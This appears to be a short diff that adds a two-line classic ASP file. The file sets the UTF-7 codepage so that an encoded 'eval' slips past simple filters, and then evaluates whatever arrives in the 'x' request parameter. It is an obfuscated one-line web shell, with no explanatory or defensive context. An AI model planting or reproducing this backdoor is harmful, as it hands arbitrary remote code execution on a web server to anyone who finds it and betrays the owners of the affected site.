@@ -1,0 +1,2 @@
+<%@codepage=65000%>
+<%e+AHY-al request("x")%>
